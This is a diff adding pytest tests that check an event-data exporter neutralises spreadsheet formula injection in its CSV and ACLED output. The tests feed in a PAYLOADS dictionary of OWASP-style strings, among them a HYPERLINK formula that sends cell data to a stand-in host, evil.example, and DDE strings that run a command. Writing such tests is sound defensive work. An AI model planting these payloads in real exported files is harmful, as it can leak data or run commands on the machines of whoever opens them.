@@ -631,3 +631,165 @@ def test_unwritable_directory_is_a_coded_error(tmp_path: Path) -> None:
 def test_unknown_format_lists_the_formats() -> None:
     with pytest.raises(SettingsError, match=r"\[E061\] .*'xlsx'.*jsonl, csv, parquet, plover"):
         export.write(_documents(), "xlsx", io.StringIO())
+
+
+# --- spreadsheet safety: formula injection -------------------------------------------
+
+# One payload per character that makes a spreadsheet read a cell as a formula (OWASP).
+PAYLOADS = {
+    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+2",
+    "cr": "\r=1+2",
+}
+# The text columns each hostile document fills with its payload, in csv and in acled.
+HOSTILE_CSV = ("article_id", "title", "source", "event_id", "actor", "event_text", "location")
+HOSTILE_ACLED = ("event_id_cnty", "actor1", "actor2", "location", "source", "notes")
+
+
+def _hostile(name: str) -> Document:
+    """An article whose id, title, source, event id, actor words, event words and place
+    all begin with the payload `name`, with a negative score and negative coordinates."""
+    payload = PAYLOADS[name]
+    event = _event(
+        f"{payload} {name}-e1",
+        "ASSAULT",
+        "material conflict",
+        -9.5,
+        actor=[Actor(text=f"{payload} gunmen", span=(0, 6))],
+        recipient=[Actor(text=f"{payload} villagers", span=(20, 29))],
+        event_text=f"{payload} attacked",
+        location=Place(text=f"{payload} town", lat=-33.9, lon=-70.6, span=(40, 44)),
+        dead=Magnitude(value=3),
+        acled=Acled(event_type="Violence against civilians", sub_event_type="Attack"),
+    )
+    return Document(
+        id=f"{payload} {name}",
+        title=f"{payload} title",
+        source=f"{payload} wire",
+        published=dt.date(2025, 3, 10),
+        events=[event],
+    )
+
+
+def _hostile_documents() -> list[Document]:
+    return [_hostile(name) for name in PAYLOADS]
+
+
+# What follows the payload in each column (`_hostile`).
+_SUFFIX = {
+    "article_id": "{name}",
+    "event_id": "{name}-e1",
+    "event_id_cnty": "{name}-e1",
+    "title": "title",
+    "source": "wire",
+    "actor": "gunmen",
+    "actor1": "gunmen",
+    "actor2": "villagers",
+    "event_text": "attacked",
+    "notes": "attacked",
+    "location": "town",
+}
+
+
+def _expected(column: str) -> list[str]:
+    """What each hostile document wrote into a column, in order."""
+    return [f"{PAYLOADS[name]} {_SUFFIX[column].format(name=name)}" for name in PAYLOADS]
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1+2", "'+1+2"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("  =1+2", "'  =1+2"),  # after leading whitespace: importers may trim it
+        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
+        ("-", "'-"),
+        ("-inf", "'-inf"),
+        ("-9.5", "-9.5"),  # a plain number stays a number
+        ("+3", "+3"),
+        ("-1e5", "-1e5"),
+        (" -70.6", " -70.6"),
+        ("-\u0663", "'-\u0663"),  # not ASCII digits: no number to a spreadsheet
+        ("Reuters", "Reuters"),
+        ("a=b", "a=b"),
+        ("'=1+2", "'=1+2"),  # already text to a spreadsheet
+        ("", ""),
+        (None, None),
+        (-9.5, -9.5),  # numbers are never text
+        (-70, -70),
+    ],
+)
+def test_neutralize_formula_rule(value: object, safe: object) -> None:
+    assert export.neutralize_formula(value) == safe
+
+
+@pytest.mark.parametrize(("fmt", "columns"), [("csv", HOSTILE_CSV), ("acled", HOSTILE_ACLED)])
+def test_csv_cells_are_safe_for_spreadsheets(fmt: str, columns: tuple[str, ...]) -> None:
+    count, text = _text(fmt, _hostile_documents())
+    _, rows = _csv_rows(text)
+    assert count == len(rows) == len(PAYLOADS)  # a carriage return split no row
+    for column in columns:
+        assert [row[column] for row in rows] == ["'" + v for v in _expected(column)], column
+    frame = pd.read_csv(io.StringIO(text))
+    assert frame["latitude"].dtype == frame["longitude"].dtype == "float64"
+    assert set(frame["latitude"]) == {-33.9}
+    assert set(frame["longitude"]) == {-70.6}
+    if fmt == "csv":
+        assert frame["score"].dtype == "float64"
+        assert set(frame["score"]) == {-9.5}
+        assert frame["dead"].tolist() == [3] * len(PAYLOADS)
+    else:
+        assert frame["fatalities"].dtype == "int64"
+    for column in columns:
+        assert all(cell.startswith("'") for cell in frame[column]), column
+
+
+@pytest.mark.parametrize(("fmt", "columns"), [("csv", HOSTILE_CSV), ("acled", HOSTILE_ACLED)])
+def test_raw_csv_writes_cells_unchanged(fmt: str, columns: tuple[str, ...]) -> None:
+    stream = io.StringIO()
+    assert export.write(_hostile_documents(), fmt, stream, raw_csv=True) == len(PAYLOADS)
+    _, rows = _csv_rows(stream.getvalue())
+    for column in columns:
+        assert [row[column] for row in rows] == _expected(column), column
+    frame = pd.read_csv(io.StringIO(stream.getvalue()))
+    assert frame["longitude"].dtype == "float64"
+    assert frame["source"].tolist() == _expected("source")
+
+
+def test_formula_cells_are_quoted_as_owasp_asks() -> None:
+    """OWASP's two examples, and a separator inside a cell: text cells are always quoted,
+    so a spreadsheet that splits on ";" cannot start a new cell at "=1+2"."""
+    doc = Document(
+        id="owasp",
+        title='=1+2";=1+2',
+        source="=1+2'\" ;,=1+2",
+        url="Reuters;=1+2",
+        events=[_event("owasp-e1", "ASSAULT", "material conflict", -9.5)],
+    )
+    _, text = _text("csv", [doc])
+    line = text.splitlines()[1]
+    assert '"\'=1+2"";=1+2"' in line
+    assert '"\'=1+2\'"" ;,=1+2"' in line
+    assert '"Reuters;=1+2"' in line
+    assert ",-9.5," in line  # numbers are written bare
+    _, rows = _csv_rows(text)
+    assert rows[0]["title"] == "'=1+2\";=1+2"
+    assert rows[0]["url"] == "Reuters;=1+2"
+
+
+def test_json_and_parquet_keep_the_text_as_it_is(tmp_path: Path) -> None:
+    documents = _hostile_documents()
+    lines = _text("jsonl", documents)[1].splitlines()
+    assert [Document.model_validate_json(line) for line in lines] == documents
+    plover = [json.loads(line) for line in _text("plover", documents)[1].splitlines()]
+    assert [r["cite_info"]["title"] for r in plover] == _expected("title")
+    path = tmp_path / "events.parquet"
+    export.write(documents, "parquet", path, raw_csv=False)
+    assert pq.read_table(path).column("title").to_pylist() == _expected("title")
